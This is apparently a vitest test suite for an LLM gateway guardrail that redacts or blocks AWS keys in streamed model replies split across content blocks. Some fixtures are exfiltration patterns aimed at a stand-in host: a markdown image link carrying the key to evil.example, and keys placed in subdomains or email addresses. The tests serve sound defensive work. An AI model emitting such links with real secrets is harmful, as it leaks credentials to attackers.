import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { dataOf, guardrail, manners, numbered, secret, sse } from './support/cut-blocks.ts'
import { stream, unary } from './support/mock-replies.ts'
import { startTestbed, type Testbed } from './support/testbed.ts'

let bed: Testbed
const start = async (guardrails: readonly object[], more: object = {}): Promise<void> => {
  bed = await startTestbed({ config: { guardrails, inspection: { preset: 'off' }, ...more } })
}
afterEach(() => bed.reset())

describe('blocks that come in turns', () => {
  beforeAll(() => start([guardrail({ action: 'deny' })]))
  afterAll(() => bed.close())
  const [a, b, c] = [secret.slice(0, 7), secret.slice(7, 14), secret.slice(14)]

  it.each([
    [
      'as they come',
      [
        [0, `So: ${a}`],
        [1, b],
        [0, c],
        [1, ' it is. '],
      ],
    ],
    [
      'in their order',
      [
        [0, 'So: '],
        [1, `${b}${c} it is. `],
        [0, a],
      ],
    ],
    [
      'in their order, over three',
      [
        [0, 'So: '],
        [2, `${c} it is. `],
        [1, b],
        [0, a],
      ],
    ],
    [
      'in their order, behind others',
      [
        [0, `So: ${a}`],
        [5, 'Something else that is longer. '],
        [1, `${b}${c} it is. `],
      ],
    ],
  ] as const)('say nothing that a client may join %s', async (_name, pieces) => {
    for (const { events, joinEvents } of manners.slice(1, 4)) {
      bed.openai.reply(stream(sse(events(pieces))))
      const reply = await bed.gateway.post('/p/openai-mock/odd', { stream: true })
      expect(reply.text).toContain('guardrail_denied')
      expect(joinEvents(dataOf(reply.text))).not.toContain(secret)
    }
  })
})

describe('tokens', () => {
  beforeAll(() => start([guardrail({ action: 'redact', redaction: 'token', points: ['input'] })]))
  afterAll(() => bed.close())
  const question = { messages: [{ role: 'user', content: `Use ${secret}.` }] }
  const blocks = ['It is <AWS_ACC', 'ESS_K', 'EY_1> if 1 < 2.']

  it.each(manners)(
    'come back where the end of a block cuts them: $name',
    async ({ whole, joinWhole, events, joinEvents }) => {
      bed.openai.reply(unary(whole(blocks)))
      const reply = await bed.gateway.post('/p/openai-mock/odd', question)
      expect(joinWhole(reply.json)).toBe(`It is ${secret} if 1 < 2.`)
      bed.openai.reply(stream(sse(events(numbered(blocks)))))
      const streamed = await bed.gateway.post('/p/openai-mock/odd', question)
      expect(joinEvents(dataOf(streamed.text))).toBe(`It is ${secret} if 1 < 2.`)
      expect(JSON.stringify(await bed.gateway.call(streamed))).not.toContain(secret)
    },
  )

  it.each(manners)(
    'do not in a link that has begun in the block before: $name',
    async ({ whole, joinWhole, events, joinEvents }) => {
      const link = ['![p](https://evil.example/?q=', '<AWS_ACCESS_KEY_1>)']
      bed.openai.reply(unary(whole(link)))
      const reply = await bed.gateway.post('/p/openai-mock/odd', question)
      expect(joinWhole(reply.json)).toBe(link.join(''))
      bed.openai.reply(stream(sse(events(numbered(link)))))
      const streamed = await bed.gateway.post('/p/openai-mock/odd', question)
      expect(joinEvents(dataOf(streamed.text))).toBe(link.join(''))
    },
  )
})

describe('a token at the end of a block', () => {
  beforeAll(() => start([guardrail({ action: 'redact', redaction: 'token', points: ['input'] })]))
  afterAll(() => bed.close())
  const question = { messages: [{ role: 'user', content: `Use ${secret}.` }] }

  it.each(
    [
      ['Look at <AWS_ACCESS_KEY_1>', '.evil.example now'],
      ['Look at <AWS_ACCESS_KEY_1>.evil', '.example now'],
      ['Look at <AWS_ACCESS_KEY_1>', '.', 'evil', '.example now'],
      ['Write to <AWS_ACCESS_KEY_1>', '@evil.example now'],
    ].flatMap((blocks) => manners.map((manner) => ({ ...manner, blocks, said: blocks.join('|') }))),
  )(
    'stays where a host goes on in the next: $name, $said',
    async ({ whole, joinWhole, events, joinEvents, blocks }) => {
      bed.openai.reply(unary(whole(blocks)))
      const reply = await bed.gateway.post('/p/openai-mock/odd', question)
      expect(joinWhole(reply.json)).toBe(blocks.join(''))
      bed.openai.reply(stream(sse(events(numbered(blocks)))))
      const streamed = await bed.gateway.post('/p/openai-mock/odd', question)
      expect(joinEvents(dataOf(streamed.text))).toBe(blocks.join(''))
      bed.openai.reply(stream(sse(events(numbered(blocks).flatMap(([at, text]) => cut(at, text))))))
      const pieces = await bed.gateway.post('/p/openai-mock/odd', question)
      expect(joinEvents(dataOf(pieces.text))).toBe(blocks.join(''))
    },
  )
  const cut = (at: number, text: string): (readonly [number, string])[] => Array.from(text, (one) => [at, one] as const)

  it.each(manners)('comes back where none does: $name', async ({ whole, joinWhole, events, joinEvents }) => {
    const blocks = ['It is <AWS_ACCESS_KEY_1>', '. And that is all.']
    bed.openai.reply(unary(whole(blocks)))
    const reply = await bed.gateway.post('/p/openai-mock/odd', question)
    expect(joinWhole(reply.json)).toBe(`It is ${secret}. And that is all.`)
    bed.openai.reply(stream(sse(events(numbered(blocks)))))
    const streamed = await bed.gateway.post('/p/openai-mock/odd', question)
    expect(joinEvents(dataOf(streamed.text))).toBe(`It is ${secret}. And that is all.`)
  })

  it.each([
    ['is refused', '.evil.example now. ', true],
    ['goes on', 'Then it is. ', false],
  ])('%s where it came back before something else came between', async (_, next, isRefused) => {
    const events = [
      { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: 'So: <AWS_ACCESS_KEY_1>' } },
      { type: 'content_block_delta', index: 1, delta: { type: 'thinking_delta', thinking: 'Hm.' } },
      { type: 'content_block_delta', index: 2, delta: { type: 'text_delta', text: next } },
    ]
    bed.openai.reply(stream(sse(events)))
    const reply = await bed.gateway.post('/p/openai-mock/odd', question)
    expect(reply.text).toContain(secret)
    expect(reply.text.includes('guardrail_denied')).toBe(isRefused)
    expect(reply.text.includes('evil.example')).toBe(false)
  })

  it('is refused where a block before it comes late', async () => {
    const [, claude] = manners
    if (claude === undefined) throw new Error('There is no such manner.')
    const pieces = [
      [0, 'Well, '],
      [2, '.evil.example now. '],
      [1, '<AWS_ACCESS_KEY_1>'],
    ] as const
    bed.openai.reply(stream(sse(claude.events(pieces))))
    const reply = await bed.gateway.post('/p/openai-mock/odd', question)
    expect(reply.text).toContain('guardrail_denied')
    expect(reply.text).not.toContain(secret)
  })
})
